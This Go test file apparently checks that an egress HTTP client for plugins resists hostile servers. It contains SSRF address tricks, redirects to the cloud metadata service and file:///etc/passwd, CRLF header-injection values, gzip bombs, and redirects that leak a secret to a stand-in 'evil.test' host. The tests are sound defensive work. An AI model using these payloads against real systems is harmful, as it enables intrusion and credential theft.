package egress

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

var update = flag.Bool("update", false, "write testdata/hostile.txt")

const (
	theSecret   = "s3cr3t/v+lue<&>\"q\"=é" // changes in every encoding
	plainSecret = "sk-0123456789abcdef"
)

// hostileServer does to its client what a server can do.
func hostileServer() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/ok", func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "ok") })
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		status, _ := strconv.Atoi(r.FormValue("status"))
		w.Header()["Location"] = []string{r.FormValue("to")}
		w.WriteHeader(max(status, 302))
	})
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/loop", http.StatusFound) })
	mux.HandleFunc("/echo", echo)
	mux.HandleFunc("/reflect", func(w http.ResponseWriter, r *http.Request) {
		to := strings.ReplaceAll(r.FormValue("to"), "SECRET", r.FormValue("key"))
		w.Header()["Location"] = []string{to}
		w.WriteHeader(http.StatusTemporaryRedirect)
	})
	mux.HandleFunc("/same-query", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "/echo?"+r.URL.RawQuery)
		w.WriteHeader(http.StatusFound)
	})

	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", strconv.Itoa(1<<30))
		w.(http.Flusher).Flush()
		<-r.Context().Done()
	})
	mux.HandleFunc("/endless", func(w http.ResponseWriter, r *http.Request) { flood(w, r, []byte(strings.Repeat("x", 64<<10))) })
	mux.HandleFunc("/bomb", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		var b bytes.Buffer
		gz := gzip.NewWriter(&b)
		gz.Write(make([]byte, 100<<20)) // 100 KiB on the wire
		gz.Close()
		w.Write(b.Bytes())
	})
	mux.HandleFunc("/empty-members", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		var b bytes.Buffer
		gzip.NewWriter(&b).Close()
		flood(w, r, bytes.Repeat(b.Bytes(), 1000))
	})
	mux.HandleFunc("/corrupt", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		io.WriteString(w, "this is not gzip at all")
	})
	mux.HandleFunc("/brotli", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "br")
		io.WriteString(w, "....")
	})
	mux.HandleFunc("/twice", func(w http.ResponseWriter, r *http.Request) {
		w.Header()["Content-Encoding"] = []string{"gzip", "gzip"}
		io.WriteString(w, "....")
	})
	mux.HandleFunc("/slow-header", func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	mux.HandleFunc("/slow-body", func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "a little")
		w.(http.Flusher).Flush()
		<-r.Context().Done()
	})
	mux.HandleFunc("/cut", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", "100")
		io.WriteString(w, "short")
		w.(http.Flusher).Flush()
		panic(http.ErrAbortHandler)
	})
	mux.HandleFunc("/many-fields", func(w http.ResponseWriter, r *http.Request) {
		for i := range MaxResponseHeaders + 1 {
			w.Header().Set(fmt.Sprintf("X-%d", i), "1")
		}
	})
	mux.HandleFunc("/large-header", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Large", strings.Repeat("x", 2*MaxHeaderBytes))
	})
	mux.HandleFunc("/early-hints", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Link", "</style.css>; rel=preload")
		w.WriteHeader(http.StatusEarlyHints)
		io.WriteString(w, "after hints")
	})
	mux.HandleFunc("/hint-flood", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Link", "</style.css>; rel=preload")
		for range 10000 {
			w.WriteHeader(http.StatusEarlyHints)
		}
	})
	mux.HandleFunc("/trailers", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Trailer", "X-After")
		io.WriteString(w, "body")
		w.Header().Set("X-After", r.Header.Get("Authorization"))
	})
	mux.HandleFunc("/hop-headers", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Proxy-Authenticate", "Basic")
		w.Header().Set("Set-Cookie", "a=b")
		w.WriteHeader(http.StatusProxyAuthRequired)
	})
	return mux
}

func flood(w io.Writer, r *http.Request, piece []byte) {
	for r.Context().Err() == nil {
		if _, err := w.Write(piece); err != nil {
			return
		}
	}
}

// echo answers with all it was sent, in one form.
func echo(w http.ResponseWriter, r *http.Request) {
	secret := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	if key := r.Header.Get("X-Api-Key"); key != "" {
		secret = key
	}
	if key := r.FormValue("key"); key != "" {
		secret = key
	}
	if _, password, ok := r.BasicAuth(); ok {
		secret = password + " " + r.Header.Get("Authorization")
	}

	out := secret
	switch r.FormValue("as") {
	case "header":
		w.Header().Set("X-Echo", url.QueryEscape(secret))
		out = ""
	case "header-name":
		w.Header().Set("X-"+secret, "1")
		out = ""
	case "cookie":
		w.Header()["Set-Cookie"] = []string{"s=" + base64.StdEncoding.EncodeToString([]byte(secret))}
		out = ""
	case "gzip":
		w.Header().Set("Content-Encoding", "gzip")
		gz := gzip.NewWriter(w)
		io.WriteString(gz, secret)
		gz.Close()
		return
	case "base64":
		out = base64.StdEncoding.EncodeToString([]byte(secret))
	case "base64-inner":
		out = base64.URLEncoding.EncodeToString([]byte(`{"auth":"` + secret + `","x":1}`))
	case "hex":
		out = hex.EncodeToString([]byte(secret))
	case "json":
		b, _ := json.Marshal(secret)
		out = string(b)
	case "json-slash":
		b, _ := json.Marshal(secret)
		out = strings.ReplaceAll(string(b), "/", `\/`)
	case "html":
		out = html.EscapeString(secret)
	case "query":
		out = url.QueryEscape(secret)
	case "query-twice":
		out = url.QueryEscape(url.QueryEscape(secret))
	case "lower-escapes":
		out = lowerEscapes(url.QueryEscape(secret))
	case "status":
		w.WriteHeader(http.StatusTeapot)
	case "all":
		w.Header().Set("Content-Type", "text/plain")
		r.Header.Del("User-Agent")
		var b strings.Builder
		for _, name := range slices.Sorted(keys(r.Header)) {
			fmt.Fprintf(&b, "%s: %s | ", name, strings.Join(r.Header[name], ", "))
		}
		out = r.Method + " " + r.URL.RequestURI() + " " + b.String()
	}
	io.WriteString(w, out)
}

func keys(h http.Header) func(func(string) bool) {
	return func(yield func(string) bool) {
		for k := range h {
			if !yield(k) {
				return
			}
		}
	}
}

// hostileCase is one thing that a plugin, a server or a resolver tries. In URLs, {api},
// {evil}, {raw}, {plain} and {inner} stand for servers.
type hostileCase struct {
	name     string
	req      Request
	rules    []Rule // default: api.example.test and deep.evil.test, GET and POST
	secret   Place  // of the rule for api.example.test
	value    string // default plainSecret
	readonly bool
	limits   Limits
	before   *Request // another request of the same call
	unseen   bool     // no server may get a request
}

func get(url string, redirects int) Request { return Request{URL: url, Redirects: redirects} }

func withHeader(name string, values ...string) Request {
	return Request{URL: "{api}/echo?as=all", Header: http.Header{name: values}}
}

func to(location string) string { return "{api}/redirect?to=" + url.QueryEscape(location) }

var bearer = Place{Bearer: true}

func hostileCases() []hostileCase {
	query := Place{Query: "key"}
	cases := []hostileCase{
		// Rules.
		{name: "another host", req: get("https://other.test/", 0), unseen: true},
		{name: "another port", req: get("https://api.example.test:1/", 0), unseen: true},
		{name: "plain http", req: get("http://api.example.test/", 0), unseen: true},
		{name: "a host that ends alike", req: get("https://evilapi.example.test/", 0), unseen: true},
		{name: "a host that begins alike", req: get("https://api.example.test.evil.test/", 0), unseen: true},
		{name: "two labels under a wildcard", req: get("{a.b}/ok", 0), unseen: true},
		{name: "user and password", req: get("https://api.example.test@evil.test/", 0), unseen: true},
		{name: "a backslash before the host", req: get(`https://evil.test\@api.example.test/`, 0), unseen: true},
		{name: "method not granted", req: Request{Method: "DELETE", URL: "{api}/ok"}, unseen: true},
		{name: "CONNECT", req: Request{Method: "CONNECT", URL: "{api}/ok"}, unseen: true},
		{name: "TRACE", req: Request{Method: "TRACE", URL: "{api}/ok"}, unseen: true},
		{name: "method with a space", req: Request{Method: "GET /x HTTP/1.1\r\nX: y", URL: "{api}/ok"}, unseen: true},
		{name: "POST from a readonly tool", req: Request{Method: "POST", URL: "{api}/ok"}, readonly: true, unseen: true},
		{name: "method in another case", req: Request{Method: "post", URL: "{api}/ok"}},
		{name: "method override", req: Request{Method: "POST", URL: "{api}/ok", Header: http.Header{"X-HTTP-Method-Override": {"delete"}}}, unseen: true},
		{name: "method override from a readonly tool", req: withHeader("x_http_method_override", "POST"), readonly: true, unseen: true},
		{name: "dot segments out of a prefix", req: get("{api}/v1/../ok", 0), rules: []Rule{{URL: "{api}/v1/*"}}, unseen: true},
		{name: "encoded dot segments out of a prefix", req: get("{api}/v1/%2e%2e/ok", 0), rules: []Rule{{URL: "{api}/v1/*"}}, unseen: true},
		{name: "encoded slash out of a prefix", req: get("{api}/v1/..%2fok", 0), rules: []Rule{{URL: "{api}/v1/*"}}, unseen: true},
		{name: "double encoding out of a prefix", req: get("{api}/v1/%252e%252e/ok", 0), rules: []Rule{{URL: "{api}/v1/*"}}, unseen: true},
		{name: "path parameter out of a prefix", req: get("{api}/v1/..;/ok", 0), rules: []Rule{{URL: "{api}/v1/*"}}, unseen: true},
		{name: "no policy", req: get("{api}/ok", 0), rules: []Rule{}, unseen: true},

		// Addresses.
		{name: "loopback literal", req: get("https://127.0.0.2/", 0), unseen: true},
		{name: "decimal address", req: get("https://2130706433/", 0), unseen: true},
		{name: "octal address", req: get("https://017700000001/", 0), unseen: true},
		{name: "hexadecimal address", req: get("https://0x7f.1/", 0), unseen: true},
		{name: "full-width address", req: get("https://１２７.０.０.１/", 0), unseen: true},
		{name: "mapped address", req: get("https://[::ffff:127.0.0.1]/", 0), unseen: true},
		{name: "zone", req: get("https://[fe80::1%25lo]/", 0), unseen: true},
		{name: "name of a loopback address", req: get("https://loopback.example.test/", 0), rules: public(), unseen: true},
		{name: "name of a private address", req: get("https://private.example.test/", 0), rules: public(), unseen: true},
		{name: "name of the metadata service", req: get("https://metadata.example.test/", 0), rules: public(), unseen: true},
		{name: "name of the metadata service in a private rule", req: get("https://metadata.example.test/", 0), rules: []Rule{{URL: "https://metadata.example.test/*", Private: true}}, unseen: true},
		{name: "name of a mapped address", req: get("https://mapped.example.test/", 0), rules: public(), unseen: true},
		{name: "name of a NAT64 address", req: get("https://nat64.example.test/", 0), rules: public(), unseen: true},
		{name: "name of a 6to4 address", req: get("https://sixtofour.example.test/", 0), rules: public(), unseen: true},
		{name: "name of a Teredo address", req: get("https://teredo.example.test/", 0), rules: public(), unseen: true},
		{name: "name of the unspecified address", req: get("https://zero.example.test/", 0), rules: []Rule{{URL: "https://zero.example.test/*", Private: true}}, unseen: true},
		{name: "name of a multicast address", req: get("https://multicast.example.test/", 0), rules: public(), unseen: true},
		{name: "name that does not exist", req: get("https://nowhere.example.test/", 0), rules: public(), unseen: true},
		{name: "localhost under a wildcard", req: get("https://localhost/", 0), rules: public(), unseen: true},

		// Headers.
		{name: "CRLF in a value", req: withHeader("X-A", "b\r\nX-Injected: 1"), unseen: true},
		{name: "LF in a value", req: withHeader("X-A", "b\nX-Injected: 1"), unseen: true},
		{name: "NUL in a value", req: withHeader("X-A", "b\x00c"), unseen: true},
		{name: "CRLF in a name", req: withHeader("X-A: b\r\nX-Injected", "1"), unseen: true},
		{name: "space in a name", req: withHeader("Transfer-Encoding ", "chunked"), unseen: true},
		{name: "pseudo header", req: withHeader(":authority", "evil.test"), unseen: true},
		{name: "empty name", req: withHeader("", "x"), unseen: true},
		{name: "Host", req: withHeader("Host", "evil.test"), unseen: true},
		{name: "Transfer-Encoding", req: withHeader("Transfer-Encoding", "chunked"), unseen: true},
		{name: "Transfer_Encoding", req: withHeader("transfer_encoding", "chunked"), unseen: true},
		{name: "Content-Length", req: withHeader("Content-Length", "5"), unseen: true},
		{name: "Connection", req: withHeader("Connection", "X-Api-Key"), unseen: true},
		{name: "Upgrade", req: withHeader("Upgrade", "h2c"), unseen: true},
		{name: "HTTP2-Settings", req: withHeader("HTTP2-Settings", "AAMAAABkAAQCAAAAAAIAAAAA"), unseen: true},
		{name: "Expect", req: withHeader("Expect", "100-continue"), unseen: true},
		{name: "TE", req: withHeader("TE", "chunked"), unseen: true},
		{name: "Trailer", req: withHeader("Trailer", "X-A"), unseen: true},
		{name: "Proxy-Authorization", req: withHeader("proxy-authorization", "Basic eDp5"), unseen: true},
		{name: "Proxy-Connection", req: withHeader("Proxy-Connection", "keep-alive"), unseen: true},
		{name: "header of the secret", req: withHeader("x_api_key", "mine"), secret: Place{Header: "X-Api-Key"}},
		{name: "parameter of the secret", req: get("{api}/echo?as=all&key=mine&KEY=mine&k%65y=mine", 0), secret: query},
		{name: "Cookie of the plugin", req: withHeader("Cookie", "a=b")},
		{name: "Accept-Encoding of the plugin", req: withHeader("Accept-Encoding", "br")},
		{name: "too many headers", req: withHeader("X-A", slices.Repeat([]string{"b"}, MaxRequestHeaders+1)...), unseen: true},
		{name: "too large headers", req: withHeader("X-A", strings.Repeat("b", MaxHeaderBytes)), unseen: true},
		{name: "space in the query", req: get("{api}/echo?as=all&x HTTP/1.1", 0)},

		// Sizes and time.
		{name: "body over the cap", req: Request{Method: "POST", URL: "{api}/ok", Body: make([]byte, 2<<20)}, unseen: true},
		{name: "response that says it is huge", req: get("{api}/big", 0)},
		{name: "endless response", req: get("{api}/endless", 0)},
		{name: "gzip bomb", req: get("{api}/bomb", 0)},
		{name: "gzip of nothing, forever", req: get("{api}/empty-members", 0)},
		{name: "corrupt gzip", req: get("{api}/corrupt", 0)},
		{name: "brotli without a secret", req: get("{api}/brotli", 0)},
		{name: "brotli with a secret", req: get("{api}/brotli", 0), secret: bearer},
		{name: "encoded twice, with a secret", req: get("{api}/twice", 0), secret: bearer},
		{name: "no response", req: get("{api}/slow-header", 0), limits: Limits{Timeout: 100 * time.Millisecond}},
		{name: "response that stops", req: get("{api}/slow-body", 0), limits: Limits{Timeout: 100 * time.Millisecond}},
		{name: "response that breaks off", req: get("{api}/cut", 0)},
		{name: "many response headers", req: get("{api}/many-fields", 0)},
		{name: "large response header", req: get("{api}/large-header", 0)},
		{name: "early hints", req: get("{api}/early-hints", 0)},
		{name: "flood of early hints", req: get("{api}/hint-flood", 0)},
		{name: "secret in a trailer", req: get("{api}/trailers", 0), secret: bearer},
		{name: "headers of a proxy", req: get("{api}/hop-headers", 0)},
		{name: "too many requests", req: get("{api}/ok", 0), before: &Request{URL: "{api}/ok"}, limits: Limits{Requests: 1}},
		{name: "too many bytes", req: Request{Method: "POST", URL: "{api}/ok", Body: make([]byte, 600)}, before: &Request{Method: "POST", URL: "{api}/ok", Body: make([]byte, 600)}, limits: Limits{Bytes: 1000}},

		// Redirects.
		{name: "redirect not followed", req: get(to("https://127.0.0.2/"), 0)},
		{name: "redirect to loopback", req: get(to("https://127.0.0.2/"), 5)},
		{name: "redirect to the metadata service", req: get(to("http://169.254.169.254/latest/meta-data/"), 5)},
		{name: "redirect to a name of a private address", req: get(to("https://private.example.test/"), 5), rules: append(public(), Rule{URL: "{api}/*"})},
		{name: "redirect to another host", req: get(to("https://other.test/"), 5)},
		{name: "redirect to plain http", req: get(to("http://api.example.test/ok"), 5)},
		{name: "redirect to a file", req: get(to("file:///etc/passwd"), 5)},
		{name: "redirect with a user", req: get(to("https://u:p@api.example.test/ok"), 5)},
		{name: "redirect to a number", req: get(to("https://2130706433/"), 5)},
		{name: "redirect with CRLF", req: get(to("/ok%0d%0aX-Injected:1"), 5)},
		{name: "redirect out of a prefix", req: get("{api}/redirect?to=/v1/%252e%252e/ok", 5), rules: []Rule{{URL: "{api}/redirect"}, {URL: "{api}/v1/*"}}},
		{name: "redirect chain to loopback", req: get(to("{evil}/redirect?to="+url.QueryEscape("https://127.0.0.2/")), 5)},
		{name: "redirect loop", req: get("{api}/loop", 20)},
		{name: "redirect over the number of requests", req: get("{api}/loop", 20), limits: Limits{Requests: 3}},
		{name: "redirect changes POST to GET", req: Request{Method: "POST", URL: to("{api}/echo?as=all"), Body: []byte("x"), Redirects: 1, Header: http.Header{"Content-Type": {"text/plain"}}}},
		{name: "redirect keeps POST with 307", req: Request{Method: "POST", URL: to("{api}/echo?as=all") + "&status=307", Body: []byte("x"), Redirects: 1}},
		{name: "redirect with 307 to a host without POST", req: Request{Method: "POST", URL: to("{evil}/echo?as=all") + "&status=307", Body: []byte("x"), Redirects: 1}, rules: []Rule{{URL: "{api}/*", Methods: []string{"POST"}}, {URL: "{evil}/*"}}},
		{name: "redirect takes no credentials along", req: Request{URL: to("{evil}/echo?as=all"), Redirects: 1, Header: http.Header{"Authorization": {"Bearer mine"}, "Cookie": {"a=b"}, "X-Custom": {"c"}, "Accept": {"text/plain"}}}},
		{name: "redirect takes no secret along", req: get(to("{evil}/echo?as=all"), 1), secret: bearer},
		{name: "redirect takes no secret header along", req: get(to("{evil}/echo?as=all"), 1), secret: Place{Header: "X-Api-Key"}},
		{name: "redirect reflects the secret to another host", req: get("{api}/reflect?to="+url.QueryEscape("{evil}/echo?as=all&stolen=SECRET"), 1), secret: query},
		{name: "redirect reflects the secret in a path", req: get("{api}/reflect?to="+url.QueryEscape("{evil}/SECRET"), 1), secret: query},
		{name: "redirect reflects the secret in a host name", req: get("{api}/reflect?to="+url.QueryEscape("https://SECRET.evil.test/"), 1), secret: query, rules: []Rule{{URL: "{api}/*", Secret: "example"}, {URL: "https://*.evil.test/*"}}},
		{name: "redirect reflects the secret, not followed", req: get("{api}/reflect?to="+url.QueryEscape("{evil}/?stolen=SECRET"), 0), secret: query},
		{name: "redirect repeats the query", req: get("{api}/same-query?as=all", 1), secret: query},

		// Secrets.
		{name: "secret to another host", req: get("{evil}/echo?as=all", 0), rules: []Rule{{URL: "{evil}/*", Secret: "example"}}, secret: bearer, unseen: true},
		{name: "secret over http", req: get("{plain}/echo", 0), rules: []Rule{{URL: "{plain}/*", Secret: "example"}}, secret: bearer, unseen: true},
		{name: "secret that nobody has set", req: get("{api}/echo", 0), rules: []Rule{{URL: "{api}/*", Secret: "other"}}, unseen: true},
		{name: "secret with a line break", req: get("{api}/echo", 0), secret: bearer, value: "abc\r\nX-Injected: 1", unseen: true},
		{name: "secret that is short", req: get("{api}/echo", 0), secret: bearer, value: "abc", unseen: true},
		{name: "echo as JSON of what the call used before", req: get("{evil}/echo?as=all&q="+plainSecret, 0), secret: bearer, before: &Request{URL: "{api}/ok"}},
		{name: "echo of basic authentication", req: get("{api}/echo", 0), secret: Place{Basic: "user"}},
		{name: "echo of a header name", req: get("{api}/echo?as=header-name", 0), secret: bearer},
		{name: "secret in an error of the server", req: get("{api}/echo?as=status", 0), secret: bearer},
		{name: "secret in bytes that are not HTTP", req: get("{raw}/", 0), secret: bearer, rules: []Rule{{URL: "{raw}/*", Secret: "example"}}},

		// Servers that are not what they should be.
		{name: "certificate of another host", req: get("{wrong}/ok", 0), rules: []Rule{{URL: "{wrong}/*"}}, unseen: true},
		{name: "expired certificate", req: get("{expired}/ok", 0), rules: []Rule{{URL: "{expired}/*"}}, unseen: true},
		{name: "certificate of a stranger", req: get("{stranger}/ok", 0), rules: []Rule{{URL: "{stranger}/*"}}, unseen: true},
		{name: "plain server for https", req: get("{mixed}/ok", 0), rules: []Rule{{URL: "{mixed}/*"}}, unseen: true},
		{name: "nobody listens", req: get("https://api.example.test:{closed}/ok", 0), rules: []Rule{{URL: "https://api.example.test:{closed}/*"}}, unseen: true},
		{name: "server that switches protocols", req: get("{switch}/ok", 0), rules: []Rule{{URL: "{switch}/*"}}},
		{name: "two lengths", req: get("{lengths}/ok", 0), rules: []Rule{{URL: "{lengths}/*"}}},
	}
	for _, as := range []string{"", "header", "cookie", "gzip", "base64", "base64-inner", "hex", "json", "json-slash", "html", "query", "query-twice", "lower-escapes"} {
		cases = append(cases, hostileCase{name: "echo as " + as, req: get("{api}/echo?as="+as, 0), secret: query, value: theSecret})
	}
	return cases
}

func public() []Rule { return []Rule{{URL: "https://*/*"}} }

// TestHostile plays every case against a server of each protocol. What a person sees
// is in testdata/hostile.txt.
func TestHostile(t *testing.T) {
	var got [2]string
	for i, http2 := range []bool{false, true} {
		h := newHostile(t, http2)
		for _, c := range hostileCases() {
			got[i] += c.name + "\n\t" + h.play(t, c) + "\n"
		}
	}
	require.Equal(t, got[0], got[1], "both protocols")
	require.NotContains(t, got[0], plainSecret)

	const golden = "testdata/hostile.txt"
	if *update {
		require.NoError(t, os.WriteFile(golden, []byte(got[0]), 0o600))
	}
	want, err := os.ReadFile(golden)
	require.NoError(t, err)
	require.Equal(t, string(want), got[0])
}

// hostile is a network with servers to play cases against.
type hostile struct {
	*world
	client  *Client
	servers []*webServer
	names   *strings.Replacer
	ports   *strings.Replacer
}

func newHostile(t *testing.T, http2 bool) *hostile {
	h := &hostile{world: newWorld(t)}
	for name, addr := range map[string]string{
		"loopback": "127.0.0.2", "private": "10.0.0.1", "metadata": "169.254.169.254", "mapped": "::ffff:10.0.0.1", "nat64": "64:ff9b::7f00:1",
		"sixtofour": "2002:7f00:1::1", "teredo": "2001:0:7f00:1::1", "zero": "0.0.0.0", "multicast": "224.0.0.1",
	} {
		h.dns.set(name+".example.test", []string{addr})
	}

	serve := func(o serverOptions) *webServer {
		s := newServer(t, h.ca, o, hostileServer())
		h.servers = append(h.servers, s)
		return s
	}
	expired := h.ca.issue(t, time.Now().Add(-time.Minute), "api.example.test")
	wrong := h.ca.issue(t, time.Now().Add(time.Hour), "www.example.test")
	stranger := newAuthority(t).issue(t, time.Now().Add(time.Hour), "api.example.test")
	urls := map[string]string{
		"api":      serve(serverOptions{http2: http2}).url,
		"plain":    serve(serverOptions{plain: true}).url,
		"expired":  serve(serverOptions{http2: http2, cert: &expired}).url,
		"wrong":    serve(serverOptions{http2: http2, cert: &wrong}).url,
		"stranger": serve(serverOptions{http2: http2, cert: &stranger}).url,
		"raw":      rawServer(t, h.ca, "Bearer "+plainSecret+"\r\nis not HTTP\r\n\r\n"),
		"switch":   rawServer(t, h.ca, "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\n"),
		"lengths":  rawServer(t, h.ca, "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello"),
		"closed":   closedPort(t),
	}
	urls["evil"] = strings.Replace(urls["api"], "api.example.test", "deep.evil.test", 1)
	urls["a.b"] = strings.Replace(urls["api"], "api.example.test", "a.b.example.test", 1)
	urls["mixed"] = strings.Replace(urls["plain"], "http:", "https:", 1)

	var names, ports []string
	for name, u := range urls {
		names = append(names, "{"+name+"}", u, "%7B"+name+"%7D", url.QueryEscape(u))
		port := u[strings.LastIndexByte(u, ':')+1:]
		ports = append(ports, ":"+port, ":PORT", "%3A"+port, "%3APORT")
	}
	h.names, h.ports = strings.NewReplacer(names...), strings.NewReplacer(ports...)
	h.client = h.world.client(t)
	return h
}

// play returns what a person sees of a case.
func (h *hostile) play(t *testing.T, c hostileCase) string {
	rules := c.rules
	if rules == nil {
		secret := ""
		if c.secret != (Place{}) {
			secret = "example"
		}
		rules = []Rule{
			{URL: "{api}/*", Methods: []string{"GET", "POST"}, Secret: secret, MaxBody: 1 << 20},
			{URL: "{evil}/*"},
			{URL: "https://*.example.test/*"},
		}
	}
	rules = slices.Clone(rules)
	for i := range rules {
		rules[i].URL = h.names.Replace(rules[i].URL)
	}
	value := plainSecret
	if c.value != "" {
		value = c.value
	}
	h.world.names = map[string]Secret{"example": {Value: value, Hosts: []string{"api.example.test"}, Place: c.secret}}

	var last Exchange
	call := h.client.Call(CallConfig{
		Plugin: c.name, Policy: policy(t, rules...), Readonly: c.readonly, Secrets: h, Limits: c.limits,
		Observe: func(x Exchange) { last = x },
	})
	if c.before != nil {
		before := *c.before
		before.URL = h.names.Replace(before.URL)
		_, err := call.Do(context.Background(), &before)
		require.NoError(t, err, c.name)
	}
	for _, s := range h.servers {
		s.last()
	}

	req := c.req
	req.URL = h.names.Replace(h.names.Replace(req.URL))
	resp, err := call.Do(context.Background(), &req)
	if c.unseen {
		for _, s := range h.servers {
			require.Nil(t, s.last(), c.name)
		}
	}
	require.NotContains(t, fmt.Sprintf("%+v %+v", last, err), value, c.name)
	return h.ports.Replace(describe(resp, err))
}

func describe(resp *Response, err error) string {
	if err != nil {
		kind := strings.TrimPrefix(fmt.Sprintf("%T", err), "*egress.")
		return kind + ": " + err.Error()
	}

	s := strconv.Itoa(resp.Status)
	for _, name := range []string{"Location", "X-Echo", "X-After", "Set-Cookie", "Proxy-Authenticate", "Link", "Content-Encoding"} {
		if v := resp.Header.Get(name); v != "" {
			s += " " + name + "=" + v
		}
	}
	for name := range resp.Header {
		if strings.HasPrefix(strings.ToLower(name), "x-sk") {
			s += " " + name
		}
	}
	return strings.TrimSpace(s + " " + strings.TrimSpace(string(resp.Body)))
}
